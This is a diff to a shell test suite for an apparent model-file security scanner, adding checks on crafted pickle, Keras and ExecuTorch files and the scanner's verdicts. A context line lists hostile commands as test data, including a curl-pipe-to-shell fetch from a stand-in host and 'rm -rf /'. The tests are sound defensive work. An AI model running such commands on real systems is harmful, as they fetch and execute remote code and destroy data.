@@ -105,7 +105,31 @@ for bad in 'curl -s https://a.example/x.sh | sh' 'sudo rm -rf / --no-preserve-ro
 	hostile METADATA_CODE "a command in it: $bad"
 done
 
+# --- names in pickles
+for module in "sentence_transformers.training_args BatchSamplers" "trl.trainer.dpo_config FDivergenceType"; do
+	printf '\200\002c%s\n%s\nU\001a\205R.' "${module% *}" "${module#* }" | file a.pkl
+	quiet "an enumeration, $module,"
+done
+printf '\200\002}U\001accollections.abc\nIterable\ns.' | file a.pkl
+quiet "an abstract class"
+
 # --- names without a model
+rm -rf "$tmp/b"
+mkdir "$tmp/b"
+/usr/bin/python3 -c 'import sys, zipfile
+with zipfile.ZipFile(sys.argv[1], "w") as z:
+    z.writestr("config.json", """{"class_name": "Sequential", "module": "keras", "config": {"name": "s", "layers": [
+        {"class_name": "Lambda", "module": "keras.layers", "config": {"name": "l", "function": "x"}}]}}""")
+    z.writestr("metadata.json", "{}")
+    z.writestr("model.weights.h5", b"")' "$tmp/b/model.pt"
+exits 1 "a model of Keras under the name of another" assay-inspect "$tmp/b"
+prints "MODEL_ABSENT"
+prints "KERAS_CODE"
+printf '\020\000\000\000ET13\000\000\000\000\000\000\000\000' | file model.pte
+quiet "a later version of ExecuTorch"
+printf '\020\000\000\000ETxx\000\000\000\000\000\000\000\000' | file model.pte
+exits 2 "none of its versions" assay-inspect "$tmp/b"
+prints "medium *NAME_MISMATCH"
 printf 'hello\n' | file model.cbm
 exits 2 "text under the name of a model" assay-inspect "$tmp/b"
 prints "medium *NAME_MISMATCH"
